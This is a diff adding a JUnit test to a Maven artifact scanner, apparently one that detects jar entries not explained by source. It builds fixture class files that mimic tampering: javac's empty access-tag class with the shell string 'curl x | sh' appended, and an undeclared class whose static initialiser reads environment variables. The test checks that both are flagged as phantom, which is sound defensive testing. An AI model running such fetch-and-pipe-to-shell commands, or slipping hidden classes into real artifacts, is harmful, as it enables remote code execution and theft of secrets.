@@ -250,4 +250,39 @@ class MavenScanTest {
                 a.divergentPaths().stream().sorted().toList());
         assertEquals(Verdict.DIVERGENT, a.verdict());
     }
+
+    private static final String OUTER = "package org.acme;\npublic class Outer {\n"
+            + "  private static class Hidden {\n    private Hidden() {}\n  }\n"
+            + "  Object make() {\n    return new Hidden();\n  }\n}\n";
+
+    @Test
+    void theEmptyClassJavacWritesForAPrivateNestedConstructorIsGeneratedAndOneWithContentIsNot() throws Exception {
+        // javac --release 8 writes Outer$1.class (an empty "access constructor tag") for the call to Hidden().
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Outer.java", OUTER), "--release", "8");
+        byte[] tag = classes.get("org/acme/Outer$1.class");
+        assertTrue(tag != null, "javac wrote " + classes.keySet());
+        // The same name with a payload: bytes appended to the class, or a class with code (a static initialiser).
+        byte[] appended = java.util.Arrays.copyOf(tag, tag.length + 12);
+        System.arraycopy(utf8("curl x | sh"), 0, appended, tag.length, 11);
+        Map<String, byte[]> withCode = LocalMaven.javac(Map.of("org/acme/Outer$2.java",
+                "package org.acme;\nclass Outer$2 {\n  static { System.getenv(); }\n}\n"), "--release", "8");
+        Map<String, byte[]> jar = new LinkedHashMap<>(classes);
+        jar.put("org/acme/Outer$2.class", withCode.get("org/acme/Outer$2.class"));
+        jar.put("META-INF/versions/11/org/acme/Outer$1.class", appended);
+        SortedMap<String, byte[]> tree = files(
+                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version></project>\n",
+                "src/main/java/org/acme/Outer.java", OUTER);
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        FileDivergence t = row(a, "org/acme/Outer$1.class");
+        assertEquals(FileStatus.GENERATED, t.status());
+        assertEquals(MavenGeneratedFiles.CLASS_ACCESS_TAG, t.ruleId());
+        assertEquals("src/main/java/org/acme/Outer.java", t.sourcePath().orElseThrow());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, "org/acme/Outer$Hidden.class").ruleId());
+        for (String p : List.of("org/acme/Outer$2.class", "META-INF/versions/11/org/acme/Outer$1.class")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertEquals(MavenGeneratedFiles.CLASS_UNDECLARED, f.ruleId(), p);
+        }
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
 }
